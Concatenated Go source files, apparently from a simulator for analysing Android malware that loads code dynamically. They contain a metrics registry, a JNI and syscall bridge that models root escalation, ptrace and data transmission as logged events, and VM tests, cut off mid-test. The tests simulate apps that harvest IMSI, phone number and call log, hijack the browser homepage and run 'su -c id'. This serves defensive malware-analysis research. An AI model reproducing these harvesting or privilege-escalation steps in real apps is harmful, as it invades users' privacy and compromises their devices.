// packages (the fleet telemetry aggregator) can build duration
// distributions that merge bucket-for-bucket with this registry's.
const NumBuckets = numBuckets

// BucketOf returns the index of the exponential bucket holding d, under
// the same scheme the registry's histograms use.
func BucketOf(d time.Duration) int { return bucketOf(d) }

// BucketBound is the inclusive upper bound of bucket i.
func BucketBound(i int) time.Duration { return bucketBound(i) }

// Registry holds named counters, gauges and histograms. All methods are safe for
// concurrent use, and every method is a no-op on a nil receiver so callers
// can thread an optional *Registry without nil checks at each site.
type Registry struct {
	mu       sync.Mutex
	counters map[string]*int64
	gauges   map[string]*int64
	hists    map[string]*histogram
}

// New creates an empty registry.
func New() *Registry {
	return &Registry{
		counters: make(map[string]*int64),
		gauges:   make(map[string]*int64),
		hists:    make(map[string]*histogram),
	}
}

// Add increments the named counter by delta, creating it at zero first.
func (r *Registry) Add(name string, delta int64) {
	if r == nil {
		return
	}
	r.mu.Lock()
	c, ok := r.counters[name]
	if !ok {
		c = new(int64)
		r.counters[name] = c
	}
	r.mu.Unlock()
	atomic.AddInt64(c, delta)
}

// Counter returns the current value of the named counter (zero when it
// was never incremented). It gives services and tests point reads without
// paying for a full Snapshot.
func (r *Registry) Counter(name string) int64 {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	c, ok := r.counters[name]
	r.mu.Unlock()
	if !ok {
		return 0
	}
	return atomic.LoadInt64(c)
}

// gauge returns the named gauge cell, creating it at zero first.
func (r *Registry) gauge(name string) *int64 {
	r.mu.Lock()
	g, ok := r.gauges[name]
	if !ok {
		g = new(int64)
		r.gauges[name] = g
	}
	r.mu.Unlock()
	return g
}

// SetGauge pins the named gauge to v, creating it first. Unlike counters,
// gauges represent instantaneous levels (queue depth, store occupancy,
// goroutine count) and may move in both directions.
func (r *Registry) SetGauge(name string, v int64) {
	if r == nil {
		return
	}
	atomic.StoreInt64(r.gauge(name), v)
}

// AddGauge moves the named gauge by delta (negative deltas allowed),
// creating it at zero first.
func (r *Registry) AddGauge(name string, delta int64) {
	if r == nil {
		return
	}
	atomic.AddInt64(r.gauge(name), delta)
}

// Gauge returns the current value of the named gauge (zero when it was
// never set).
func (r *Registry) Gauge(name string) int64 {
	if r == nil {
		return 0
	}
	r.mu.Lock()
	g, ok := r.gauges[name]
	r.mu.Unlock()
	if !ok {
		return 0
	}
	return atomic.LoadInt64(g)
}

// HistSnapshot returns the current summary of the named histogram (the
// zero StageStats when it was never observed). It is the histogram
// counterpart of the Counter point-read: callers inspecting one stage no
// longer pay for a full Snapshot.
func (r *Registry) HistSnapshot(name string) StageStats {
	if r == nil {
		return StageStats{}
	}
	r.mu.Lock()
	h, ok := r.hists[name]
	r.mu.Unlock()
	if !ok {
		return StageStats{}
	}
	return h.stats()
}

// Observe records one duration into the named histogram.
func (r *Registry) Observe(name string, d time.Duration) {
	if r == nil {
		return
	}
	if d < 0 {
		d = 0
	}
	r.mu.Lock()
	h, ok := r.hists[name]
	if !ok {
		h = &histogram{}
		r.hists[name] = h
	}
	r.mu.Unlock()
	h.observe(d)
}

// Time starts a timer for the named histogram and returns the function
// that stops it and records the elapsed duration.
func (r *Registry) Time(name string) func() {
	if r == nil {
		return func() {}
	}
	start := time.Now()
	return func() { r.Observe(name, time.Since(start)) }
}

// histogram is an exponentially-bucketed duration distribution.
type histogram struct {
	mu      sync.Mutex
	buckets [numBuckets]int64
	count   int64
	total   time.Duration
	min     time.Duration
	max     time.Duration
}

func bucketOf(d time.Duration) int {
	us := uint64(d / time.Microsecond)
	b := bits.Len64(us) // 0 for sub-µs, else 1+floor(log2(µs))
	if b >= numBuckets {
		b = numBuckets - 1
	}
	return b
}

// bucketBound is the inclusive upper bound of bucket i.
func bucketBound(i int) time.Duration {
	return time.Microsecond << i
}

func (h *histogram) observe(d time.Duration) {
	h.mu.Lock()
	defer h.mu.Unlock()
	h.buckets[bucketOf(d)]++
	h.count++
	h.total += d
	if h.count == 1 || d < h.min {
		h.min = d
	}
	if d > h.max {
		h.max = d
	}
}

func (h *histogram) stats() StageStats {
	h.mu.Lock()
	defer h.mu.Unlock()
	s := StageStats{
		Count: h.count,
		Total: h.total,
		Min:   h.min,
		Max:   h.max,
	}
	if h.count == 0 {
		return s
	}
	s.Mean = h.total / time.Duration(h.count)
	s.P50 = h.quantileLocked(0.50)
	s.P90 = h.quantileLocked(0.90)
	s.P99 = h.quantileLocked(0.99)
	return s
}

// quantileLocked returns the upper bound of the bucket holding the q-th
// observation, clamped to the exact observed extremes.
func (h *histogram) quantileLocked(q float64) time.Duration {
	rank := int64(q * float64(h.count))
	if rank < 1 {
		rank = 1
	}
	var cum int64
	for i, n := range h.buckets {
		cum += n
		if cum >= rank {
			b := bucketBound(i)
			if b > h.max {
				b = h.max
			}
			if b < h.min {
				b = h.min
			}
			return b
		}
	}
	return h.max
}

// StageStats summarizes one histogram at snapshot time.
type StageStats struct {
	Count int64
	Total time.Duration
	Min   time.Duration
	Max   time.Duration
	Mean  time.Duration
	P50   time.Duration
	P90   time.Duration
	P99   time.Duration
}

// Snapshot is a point-in-time copy of a registry's state.
type Snapshot struct {
	Counters map[string]int64
	Gauges   map[string]int64
	Stages   map[string]StageStats
}

// Snapshot copies out every counter value, gauge level and histogram
// summary.
func (r *Registry) Snapshot() Snapshot {
	snap := Snapshot{
		Counters: make(map[string]int64),
		Gauges:   make(map[string]int64),
		Stages:   make(map[string]StageStats),
	}
	if r == nil {
		return snap
	}
	r.mu.Lock()
	counters := make(map[string]*int64, len(r.counters))
	for name, c := range r.counters {
		counters[name] = c
	}
	gauges := make(map[string]*int64, len(r.gauges))
	for name, g := range r.gauges {
		gauges[name] = g
	}
	hists := make(map[string]*histogram, len(r.hists))
	for name, h := range r.hists {
		hists[name] = h
	}
	r.mu.Unlock()
	for name, c := range counters {
		snap.Counters[name] = atomic.LoadInt64(c)
	}
	for name, g := range gauges {
		snap.Gauges[name] = atomic.LoadInt64(g)
	}
	for name, h := range hists {
		snap.Stages[name] = h.stats()
	}
	return snap
}

// String renders the snapshot as an aligned two-section table.
func (s Snapshot) String() string {
	var b strings.Builder
	w := tabwriter.NewWriter(&b, 2, 4, 2, ' ', 0)
	if len(s.Counters) > 0 {
		fmt.Fprintln(w, "counter\tvalue")
		for _, name := range sortedKeys(s.Counters) {
			fmt.Fprintf(w, "%s\t%d\n", name, s.Counters[name])
		}
	}
	if len(s.Gauges) > 0 {
		if len(s.Counters) > 0 {
			fmt.Fprintln(w)
		}
		fmt.Fprintln(w, "gauge\tvalue")
		for _, name := range sortedKeys(s.Gauges) {
			fmt.Fprintf(w, "%s\t%d\n", name, s.Gauges[name])
		}
	}
	if len(s.Stages) > 0 {
		if len(s.Counters)+len(s.Gauges) > 0 {
			fmt.Fprintln(w)
		}
		fmt.Fprintln(w, "stage\tcount\ttotal\tmean\tp50\tp90\tp99\tmax")
		for _, name := range sortedKeys(s.Stages) {
			st := s.Stages[name]
			fmt.Fprintf(w, "%s\t%d\t%s\t%s\t%s\t%s\t%s\t%s\n",
				name, st.Count, round(st.Total), round(st.Mean),
				round(st.P50), round(st.P90), round(st.P99), round(st.Max))
		}
	}
	w.Flush()
	return b.String()
}

func round(d time.Duration) time.Duration {
	switch {
	case d >= time.Second:
		return d.Round(time.Millisecond)
	case d >= time.Millisecond:
		return d.Round(time.Microsecond)
	default:
		return d.Round(time.Nanosecond)
	}
}

func sortedKeys[V any](m map[string]V) []string {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	return keys
}
