package vm

import (
	"fmt"
	"strings"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/nativebin"
)

// loadedLib is one native library mapped into the app process. The machine
// persists across JNI calls so library state (data segment) survives.
type loadedLib struct {
	path    string
	lib     *nativebin.Library
	machine *nativebin.Machine
}

// MapLibraryName implements System.mapLibraryName: "shell" ->
// "libshell.so".
func MapLibraryName(name string) string {
	if strings.HasPrefix(name, "lib") && strings.HasSuffix(name, ".so") {
		return name
	}
	return "lib" + name + ".so"
}

// loadLibraryByName implements System.loadLibrary(name): map the name,
// search the app's native library directory then /system/lib, fire the
// hook with the resolved path, and load.
func (m *VM) loadLibraryByName(name string) error {
	fileName := MapLibraryName(name)
	candidates := []string{
		m.App.DataDir + "lib/" + fileName,
		android.SystemLibRoot + fileName,
	}
	for _, path := range candidates {
		if m.Device.Storage.Exists(path) {
			return m.loadNativeResolved(LoadLibrary, path)
		}
	}
	return fmt.Errorf("%w: UnsatisfiedLinkError: %s not found", ErrAppCrash, fileName)
}

// loadNativePath implements System.load(path) / Runtime.load0(path) with
// an absolute path.
func (m *VM) loadNativePath(api NativeLoadAPI, path string) error {
	if !m.Device.Storage.Exists(path) {
		return fmt.Errorf("%w: UnsatisfiedLinkError: %s not found", ErrAppCrash, path)
	}
	return m.loadNativeResolved(api, path)
}

func (m *VM) loadNativeResolved(api NativeLoadAPI, path string) error {
	m.Hooks.OnNativeLoad(api, path, m.StackTrace())
	data, err := m.Device.Storage.ReadFile(path)
	if err != nil {
		return fmt.Errorf("%w: %w", ErrAppCrash, err)
	}
	lib, err := nativebin.Decode(data)
	if err != nil {
		return fmt.Errorf("%w: UnsatisfiedLinkError: %s: %w", ErrAppCrash, path, err)
	}
	ll := &loadedLib{path: path, lib: lib}
	ll.machine = nativebin.NewMachine(lib, &sysBridge{vm: m})
	m.nativeLibs = append(m.nativeLibs, ll)
	if _, ok := lib.FindSymbol("JNI_OnLoad"); ok {
		if _, err := ll.machine.Call("JNI_OnLoad"); err != nil {
			return fmt.Errorf("%w: JNI_OnLoad: %w", ErrAppCrash, err)
		}
	}
	return nil
}

// jniSymbol renders the JNI function name for a native method:
// Java_com_shell_StubApp_decrypt.
func jniSymbol(cls *dex.Class, method *dex.Method) string {
	return "Java_" + strings.ReplaceAll(cls.Name, ".", "_") + "_" + method.Name
}

// jniInvoke dispatches an ACC_NATIVE method to the most recently loaded
// library exporting its JNI symbol. String arguments are marshaled into
// machine memory; the integer result comes back as the return value.
func (m *VM) jniInvoke(cls *dex.Class, method *dex.Method, args []Value) (Value, error) {
	sym := jniSymbol(cls, method)
	for i := len(m.nativeLibs) - 1; i >= 0; i-- {
		ll := m.nativeLibs[i]
		if _, ok := ll.lib.FindSymbol(sym); !ok {
			continue
		}
		// Marshal: skip the receiver (args[0]) for instance methods; JNI
		// passes (JNIEnv*, jobject) which our convention folds away.
		nargs := args
		if method.Flags&dex.ACCStatic == 0 && len(nargs) > 0 {
			nargs = nargs[1:]
		}
		regs := make([]int64, 0, len(nargs))
		for _, a := range nargs {
			switch a.Kind {
			case KindString:
				addr, err := ll.machine.WriteString(a.Str)
				if err != nil {
					return Null, fmt.Errorf("%w: jni marshal: %w", ErrAppCrash, err)
				}
				regs = append(regs, addr)
			default:
				regs = append(regs, a.AsInt())
			}
		}
		res, err := ll.machine.Call(sym, regs...)
		if err != nil {
			return Null, fmt.Errorf("%w: native %s: %w", ErrAppCrash, sym, err)
		}
		return IntVal(res), nil
	}
	return Null, fmt.Errorf("%w: UnsatisfiedLinkError: %s", ErrAppCrash, sym)
}

// sysBridge routes native syscalls into the simulated system: file I/O to
// device storage (as the app's identity), ptrace to the process table,
// network sends to the event log, time to the device clock. It is how
// native malware behaviour becomes observable.
type sysBridge struct {
	vm *VM
}

// Syscall implements nativebin.SyscallHandler.
func (b *sysBridge) Syscall(mem nativebin.Memory, num int64, args [4]int64) (int64, error) {
	m := b.vm
	switch num {
	case nativebin.SysOpen:
		path, err := mem.ReadCString(args[0])
		if err != nil {
			return -1, err
		}
		create := args[1] != 0
		fd := m.nextFD
		m.nextFD++
		if create {
			m.fds[fd] = &fdEntry{path: path, dirty: true}
			return fd, nil
		}
		data, err := m.Device.Storage.ReadFile(path)
		if err != nil {
			return -1, nil // ENOENT-style failure, not a VM fault
		}
		m.fds[fd] = &fdEntry{path: path, data: data}
		return fd, nil

	case nativebin.SysRead:
		f, ok := m.fds[args[0]]
		if !ok {
			return -1, nil
		}
		n := args[2]
		if rem := int64(len(f.data)) - f.pos; n > rem {
			n = rem
		}
		if n <= 0 {
			return 0, nil
		}
		if err := mem.WriteBytes(args[1], f.data[f.pos:f.pos+n]); err != nil {
			return -1, err
		}
		f.pos += n
		return n, nil

	case nativebin.SysWrite:
		f, ok := m.fds[args[0]]
		if !ok {
			return -1, nil
		}
		p, err := mem.ReadBytes(args[1], args[2])
		if err != nil {
			return -1, err
		}
		f.data = append(f.data, p...)
		f.dirty = true
		return args[2], nil

	case nativebin.SysClose:
		f, ok := m.fds[args[0]]
		if !ok {
			return -1, nil
		}
		delete(m.fds, args[0])
		if f.dirty && f.path != "" {
			if err := m.Device.Storage.WriteFile(f.path, f.data, m.App.Package, m.App.HasExternalWrite()); err != nil {
				return -1, nil
			}
		}
		return 0, nil

	case nativebin.SysUnlink:
		path, err := mem.ReadCString(args[0])
		if err != nil {
			return -1, err
		}
		if m.Hooks.OnFileDelete(path) {
			return 0, nil // blocked silently
		}
		if err := m.Device.Storage.Delete(path, m.App.Package); err != nil {
			return -1, nil
		}
		return 0, nil

	case nativebin.SysTime:
		return m.Device.Now().Unix(), nil

	case nativebin.SysGetuid:
		return int64(m.Process.UID), nil

	case nativebin.SysSetuid:
		// A successful setuid(0) models the root exploit the Chathook
		// malware runs before attaching ptrace; the event makes the
		// escalation observable.
		if args[0] == 0 {
			m.Process.UID = 0
			m.event("root", "setuid(0) via native exploit", "")
			return 0, nil
		}
		m.Process.UID = int(args[0])
		return 0, nil

	case nativebin.SysPtrace:
		target := m.Device.FindProcessByPID(int(args[0]))
		if target == nil {
			return -1, nil
		}
		if err := m.Device.PtraceAttach(m.Process, target.PID); err != nil {
			return -1, nil
		}
		m.event("ptrace", target.Package, "")
		return 0, nil

	case nativebin.SysConnect:
		host, err := mem.ReadCString(args[0])
		if err != nil {
			return -1, err
		}
		if !m.Device.NetworkAvailable() {
			return -1, nil
		}
		fd := m.nextFD
		m.nextFD++
		m.fds[fd] = &fdEntry{path: "socket://" + host}
		return fd, nil

	case nativebin.SysSend:
		f, ok := m.fds[args[0]]
		if !ok {
			return -1, nil
		}
		p, err := mem.ReadBytes(args[1], args[2])
		if err != nil {
			return -1, err
		}
		m.event("transmit", f.path, string(p))
		return args[2], nil

	case nativebin.SysFindProc:
		pkg, err := mem.ReadCString(args[0])
		if err != nil {
			return -1, err
		}
		if p := m.Device.FindProcessByPackage(pkg); p != nil {
			return int64(p.PID), nil
		}
		return -1, nil

	case nativebin.SysRename:
		oldPath, err := mem.ReadCString(args[0])
		if err != nil {
			return -1, err
		}
		newPath, err := mem.ReadCString(args[1])
		if err != nil {
			return -1, err
		}
		if m.Hooks.OnFileRename(oldPath, newPath) {
			return 0, nil
		}
		if err := m.Device.Storage.Rename(oldPath, newPath, m.App.Package, m.App.HasExternalWrite()); err != nil {
			return -1, nil
		}
		return 0, nil
	}
	return -1, nil
}
