package dex

// Optimize performs the dexopt analogue: it produces an ODEX-encoded copy
// of the file with dead nops removed and branch targets rewritten. On
// Android the optimized file lands in the optimizedDirectory passed to
// DexClassLoader; DyDroid's DCL logger records that directory (paper
// §III-B), so the VM writes Optimize's output there on load.
func Optimize(f *File) ([]byte, error) {
	opt := &File{Classes: make([]*Class, 0, len(f.Classes))}
	for _, c := range f.Classes {
		oc := &Class{
			Name:       c.Name,
			Super:      c.Super,
			Interfaces: append([]string(nil), c.Interfaces...),
			Flags:      c.Flags,
			SourceFile: c.SourceFile,
			Fields:     append([]*Field(nil), c.Fields...),
		}
		for _, m := range c.Methods {
			oc.Methods = append(oc.Methods, optimizeMethod(m))
		}
		opt.Classes = append(opt.Classes, oc)
	}
	return encode(opt, MagicODEX)
}

// optimizeMethod strips nops, remapping branch targets. Instructions that
// are branch targets are kept alignment-correct by the index map.
func optimizeMethod(m *Method) *Method {
	om := &Method{
		Name:      m.Name,
		Params:    append([]string(nil), m.Params...),
		Return:    m.Return,
		Flags:     m.Flags,
		Registers: m.Registers,
	}
	if len(m.Code) == 0 {
		return om
	}
	// Map old pc -> new pc. Nops are dropped; a branch to a nop retargets
	// to the next surviving instruction.
	newPC := make([]int, len(m.Code)+1)
	n := 0
	for pc, in := range m.Code {
		newPC[pc] = n
		if in.Op != OpNop {
			n++
		}
	}
	newPC[len(m.Code)] = n
	om.Code = make([]Instruction, 0, n)
	for _, in := range m.Code {
		if in.Op == OpNop {
			continue
		}
		if in.Op.IsBranch() {
			in.Target = newPC[in.Target]
			// A branch whose target was a trailing run of nops would point
			// one past the end; anchor it to the last instruction, which in
			// well-formed code is a terminator anyway.
			if in.Target >= n {
				in.Target = n - 1
			}
		}
		om.Code = append(om.Code, in)
	}
	return om
}
