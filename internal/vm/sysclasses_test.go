package vm

import (
	"testing"

	"github.com/dydroid/dydroid/internal/android"
	"github.com/dydroid/dydroid/internal/dex"
	"github.com/dydroid/dydroid/internal/netsim"
)

// buildAndRun installs a one-activity app whose onCreate is supplied by
// the caller, runs it, and returns the VM.
func buildAndRun(t *testing.T, pkg string, dev *android.Device, net *netsim.Network,
	build func(*dex.MethodBuilder)) *VM {
	t.Helper()
	b := dex.NewBuilder()
	m := b.Class(pkg+".Main", "android.app.Activity").
		Method("onCreate", dex.ACCPublic, 12, "V", "Landroid/os/Bundle;")
	build(m)
	m.ReturnVoid().Done()
	dexBytes, err := dex.Encode(b.File())
	if err != nil {
		t.Fatal(err)
	}
	app := installApp(t, dev, pkg, dexBytes, nil, "")
	vmach, err := New(dev, net, app, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := vmach.LaunchApp(); err != nil {
		t.Fatalf("LaunchApp: %v", err)
	}
	return vmach
}

func staticOf(m *VM, key string) Value { return m.statics[key] }

func TestURLOpenStreamShortcut(t *testing.T) {
	dev := android.NewDevice()
	net := netsim.NewNetwork()
	net.Serve("http://cdn.example/x.bin", netsim.Payload{Data: []byte("abcdef")})
	pkg := "com.sys.url"
	m := buildAndRun(t, pkg, dev, net, func(mb *dex.MethodBuilder) {
		mb.NewInstance(1, "java.net.URL").
			ConstString(2, "http://cdn.example/x.bin").
			InvokeDirect(dex.MethodRef{Class: "java.net.URL", Name: "<init>",
				Sig: "(Ljava/lang/String;)V"}, 1, 2).
			InvokeVirtual(dex.MethodRef{Class: "java.net.URL", Name: "openStream",
				Sig: "()Ljava/io/InputStream;"}, 1).
			MoveResult(3).
			InvokeVirtual(dex.MethodRef{Class: "java.io.InputStream", Name: "readAll",
				Sig: "()[B"}, 3).
			MoveResult(4).
			NewInstance(5, "java.io.FileOutputStream").
			ConstString(6, android.InternalDir(pkg)+"files/x.bin").
			InvokeDirect(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
				Sig: "(Ljava/lang/String;)V"}, 5, 6).
			InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
				Sig: "([B)V"}, 5, 4).
			InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
				Sig: "()V"}, 5)
	})
	data, err := dev.Storage.ReadFile(android.InternalDir(pkg) + "files/x.bin")
	if err != nil || string(data) != "abcdef" {
		t.Fatalf("download = %q err %v", data, err)
	}
	_ = m
}

func TestBufferedAndByteArrayStreams(t *testing.T) {
	dev := android.NewDevice()
	pkg := "com.sys.streams"
	src := android.InternalDir(pkg) + "files/in.bin"
	if err := dev.Storage.WriteFile(src, []byte("payload"), pkg, false); err != nil {
		t.Fatal(err)
	}
	m := buildAndRun(t, pkg, dev, nil, func(mb *dex.MethodBuilder) {
		mb. // FileInputStream wrapped in BufferedInputStream
			NewInstance(1, "java.io.FileInputStream").
			ConstString(2, src).
			InvokeDirect(dex.MethodRef{Class: "java.io.FileInputStream", Name: "<init>",
				Sig: "(Ljava/lang/String;)V"}, 1, 2).
			NewInstance(3, "java.io.BufferedInputStream").
			InvokeDirect(dex.MethodRef{Class: "java.io.BufferedInputStream", Name: "<init>",
				Sig: "(Ljava/io/InputStream;)V"}, 3, 1).
			InvokeVirtual(dex.MethodRef{Class: "java.io.BufferedInputStream", Name: "readAll",
				Sig: "()[B"}, 3).
			MoveResult(4).
			// ByteArrayInputStream over the buffer, read again
			NewInstance(5, "java.io.ByteArrayInputStream").
			InvokeDirect(dex.MethodRef{Class: "java.io.ByteArrayInputStream", Name: "<init>",
				Sig: "([B)V"}, 5, 4).
			InvokeVirtual(dex.MethodRef{Class: "java.io.ByteArrayInputStream", Name: "readAll",
				Sig: "()[B"}, 5).
			MoveResult(6).
			// write out
			NewInstance(7, "java.io.FileOutputStream").
			ConstString(8, android.InternalDir(pkg)+"files/out.bin").
			InvokeDirect(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "<init>",
				Sig: "(Ljava/lang/String;)V"}, 7, 8).
			InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "write",
				Sig: "([B)V"}, 7, 6).
			InvokeVirtual(dex.MethodRef{Class: "java.io.FileOutputStream", Name: "close",
				Sig: "()V"}, 7)
	})
	data, err := dev.Storage.ReadFile(android.InternalDir(pkg) + "files/out.bin")
	if err != nil || string(data) != "payload" {
		t.Fatalf("round-trip = %q err %v", data, err)
	}
	_ = m
}

func TestFileHelpers(t *testing.T) {
	dev := android.NewDevice()
	pkg := "com.sys.file"
	p := android.InternalDir(pkg) + "files/a.txt"
	if err := dev.Storage.WriteFile(p, []byte("12345"), pkg, false); err != nil {
		t.Fatal(err)
	}
	m := buildAndRun(t, pkg, dev, nil, func(mb *dex.MethodBuilder) {
		fld := func(name string) dex.FieldRef {
			return dex.FieldRef{Class: pkg + ".Main", Name: name, Type: "I"}
		}
		mb.NewInstance(1, "java.io.File").
			ConstString(2, p).
			InvokeDirect(dex.MethodRef{Class: "java.io.File", Name: "<init>",
				Sig: "(Ljava/lang/String;)V"}, 1, 2).
			InvokeVirtual(dex.MethodRef{Class: "java.io.File", Name: "exists", Sig: "()Z"}, 1).
			MoveResult(3).
			SPut(3, fld("exists")).
			InvokeVirtual(dex.MethodRef{Class: "java.io.File", Name: "length", Sig: "()J"}, 1).
			MoveResult(4).
			SPut(4, fld("length")).
			InvokeVirtual(dex.MethodRef{Class: "java.io.File", Name: "getPath",
				Sig: "()Ljava/lang/String;"}, 1).
			MoveResult(5).
			SPut(5, dex.FieldRef{Class: pkg + ".Main", Name: "path", Type: "Ljava/lang/String;"}).
			// rename to b.txt via a File target
			NewInstance(6, "java.io.File").
			ConstString(7, android.InternalDir(pkg)+"files/b.txt").
			InvokeDirect(dex.MethodRef{Class: "java.io.File", Name: "<init>",
				Sig: "(Ljava/lang/String;)V"}, 6, 7).
			InvokeVirtual(dex.MethodRef{Class: "java.io.File", Name: "renameTo",
				Sig: "(Ljava/io/File;)Z"}, 1, 6).
			MoveResult(8).
			SPut(8, fld("renamed"))
	})
	if staticOf(m, pkg+".Main.exists").AsInt() != 1 {
		t.Fatal("exists = false")
	}
	if staticOf(m, pkg+".Main.length").AsInt() != 5 {
		t.Fatalf("length = %v", staticOf(m, pkg+".Main.length"))
	}
	if staticOf(m, pkg+".Main.path").AsString() != p {
		t.Fatalf("path = %v", staticOf(m, pkg+".Main.path"))
	}
	if staticOf(m, pkg+".Main.renamed").AsInt() != 1 {
		t.Fatal("rename failed")
	}
	if dev.Storage.Exists(p) || !dev.Storage.Exists(android.InternalDir(pkg)+"files/b.txt") {
		t.Fatal("rename did not move the file")
	}
}

func TestPrivacyGettersAndSettings(t *testing.T) {
	dev := android.NewDevice()
	pkg := "com.sys.priv"
	m := buildAndRun(t, pkg, dev, nil, func(mb *dex.MethodBuilder) {
		put := func(reg int, name string) {
			mb.MoveResult(reg)
			mb.SPut(reg, dex.FieldRef{Class: pkg + ".Main", Name: name, Type: "Ljava/lang/String;"})
		}
		mb.NewInstance(1, "android.telephony.TelephonyManager")
		mb.InvokeVirtual(dex.MethodRef{Class: "android.telephony.TelephonyManager",
			Name: "getSubscriberId", Sig: "()Ljava/lang/String;"}, 1)
		put(2, "imsi")
		mb.InvokeVirtual(dex.MethodRef{Class: "android.telephony.TelephonyManager",
			Name: "getSimSerialNumber", Sig: "()Ljava/lang/String;"}, 1)
		put(3, "iccid")
		mb.InvokeVirtual(dex.MethodRef{Class: "android.telephony.TelephonyManager",
			Name: "getLine1Number", Sig: "()Ljava/lang/String;"}, 1)
		put(4, "number")
		mb.NewInstance(5, "android.accounts.AccountManager")
		mb.InvokeVirtual(dex.MethodRef{Class: "android.accounts.AccountManager",
			Name: "getAccounts", Sig: "()[Landroid/accounts/Account;"}, 5)
		put(6, "accounts")
		mb.NewInstance(7, "android.content.pm.PackageManager")
		mb.InvokeVirtual(dex.MethodRef{Class: "android.content.pm.PackageManager",
			Name: "getInstalledPackages", Sig: "(I)Ljava/util/List;"}, 7)
		put(8, "pkgs")
		mb.ConstString(9, "airplane_mode_on")
		mb.InvokeStatic(dex.MethodRef{Class: "android.provider.Settings",
			Name: "getInt", Sig: "(Ljava/lang/String;)I"}, 9)
		put(10, "airplane")
		mb.NewInstance(9, "android.content.ContentResolver")
		mb.ConstString(11, "content://call_log/calls")
		mb.InvokeVirtual(dex.MethodRef{Class: "android.content.ContentResolver",
			Name: "query", Sig: "(Landroid/net/Uri;)Landroid/database/Cursor;"}, 9, 11)
		put(11, "calls")
	})
	checks := map[string]string{
		"imsi":     dev.IMSI,
		"iccid":    dev.ICCID,
		"number":   dev.PhoneNumber,
		"accounts": "user@example.com",
		"airplane": "0",
		"calls":    "cursor:CallLog",
	}
	for name, want := range checks {
		if got := staticOf(m, pkg+".Main."+name).AsString(); got != want {
			t.Fatalf("%s = %q, want %q", name, got, want)
		}
	}
	if got := staticOf(m, pkg+".Main.pkgs").AsString(); got != pkg {
		t.Fatalf("pkgs = %q", got)
	}
}

func TestLocationDisabledReturnsNull(t *testing.T) {
	dev := android.NewDevice()
	dev.SetLocationEnabled(false)
	pkg := "com.sys.loc"
	m := buildAndRun(t, pkg, dev, nil, func(mb *dex.MethodBuilder) {
		mb.NewInstance(1, "android.location.LocationManager").
			ConstString(2, "gps").
			InvokeVirtual(dex.MethodRef{Class: "android.location.LocationManager",
				Name: "getLastKnownLocation",
				Sig:  "(Ljava/lang/String;)Landroid/location/Location;"}, 1, 2).
			MoveResult(3).
			IfEqz(3, "null").
			Const(4, 1).
			SPut(4, dex.FieldRef{Class: pkg + ".Main", Name: "got", Type: "Z"}).
			Label("null")
	})
	if staticOf(m, pkg+".Main.got").AsInt() != 0 {
		t.Fatal("location returned despite disabled service")
	}
}

func TestAdwareSinkEvents(t *testing.T) {
	dev := android.NewDevice()
	pkg := "com.sys.adware"
	m := buildAndRun(t, pkg, dev, nil, func(mb *dex.MethodBuilder) {
		mb.NewInstance(1, "android.app.NotificationManager").
			ConstString(2, "Deals!").
			InvokeVirtual(dex.MethodRef{Class: "android.app.NotificationManager",
				Name: "notify", Sig: "(Ljava/lang/String;)V"}, 1, 2).
			NewInstance(3, "android.app.ShortcutManager").
			ConstString(4, "FreeStuff").
			InvokeVirtual(dex.MethodRef{Class: "android.app.ShortcutManager",
				Name: "addShortcut", Sig: "(Ljava/lang/String;)V"}, 3, 4).
			ConstString(5, "http://ads.example/home").
			InvokeStatic(dex.MethodRef{Class: "android.provider.Browser",
				Name: "setHomepage", Sig: "(Ljava/lang/String;)V"}, 5).
			InvokeStatic(dex.MethodRef{Class: "java.lang.Runtime",
				Name: "getRuntime", Sig: "()Ljava/lang/Runtime;"}).
			MoveResult(6).
			ConstString(7, "su -c id").
			InvokeVirtual(dex.MethodRef{Class: "java.lang.Runtime",
				Name: "exec", Sig: "(Ljava/lang/String;)V"}, 6, 7)
	})
	kinds := map[string]bool{}
	for _, ev := range m.Events() {
		kinds[ev.Kind] = true
	}
	for _, want := range []string{"notification-ad", "shortcut", "homepage", "exec"} {
		if !kinds[want] {
			t.Fatalf("missing event %s: %+v", want, m.Events())
		}
	}
}

func TestContextGetters(t *testing.T) {
	dev := android.NewDevice()
	pkg := "com.sys.ctx"
	m := buildAndRun(t, pkg, dev, nil, func(mb *dex.MethodBuilder) {
		put := func(reg int, name string) {
			mb.MoveResult(reg)
			mb.SPut(reg, dex.FieldRef{Class: pkg + ".Main", Name: name, Type: "Ljava/lang/String;"})
		}
		mb.InvokeVirtual(dex.MethodRef{Class: "android.content.Context",
			Name: "getPackageName", Sig: "()Ljava/lang/String;"}, 0)
		put(1, "pkg")
		mb.InvokeVirtual(dex.MethodRef{Class: "android.content.Context",
			Name: "getCacheDir", Sig: "()Ljava/io/File;"}, 0)
		put(2, "cache")
		mb.InvokeVirtual(dex.MethodRef{Class: "android.content.Context",
			Name: "getFilesDir", Sig: "()Ljava/io/File;"}, 0)
		put(3, "files")
		mb.InvokeVirtual(dex.MethodRef{Class: "android.content.Context",
			Name: "getExternalFilesDir", Sig: "()Ljava/io/File;"}, 0)
		put(4, "ext")
	})
	if got := staticOf(m, pkg+".Main.pkg").AsString(); got != pkg {
		t.Fatalf("pkg = %q", got)
	}
	if got := staticOf(m, pkg+".Main.cache").AsString(); got != android.InternalDir(pkg)+"cache" {
		t.Fatalf("cache = %q", got)
	}
	if got := staticOf(m, pkg+".Main.files").AsString(); got != android.InternalDir(pkg)+"files" {
		t.Fatalf("files = %q", got)
	}
	if got := staticOf(m, pkg+".Main.ext").AsString(); got != android.ExternalRoot+"Android/data/"+pkg {
		t.Fatalf("ext = %q", got)
	}
}

func TestAirplaneSettingVisible(t *testing.T) {
	dev := android.NewDevice()
	dev.SetAirplaneMode(true)
	pkg := "com.sys.airp"
	m := buildAndRun(t, pkg, dev, nil, func(mb *dex.MethodBuilder) {
		mb.ConstString(1, "airplane_mode_on").
			InvokeStatic(dex.MethodRef{Class: "android.provider.Settings",
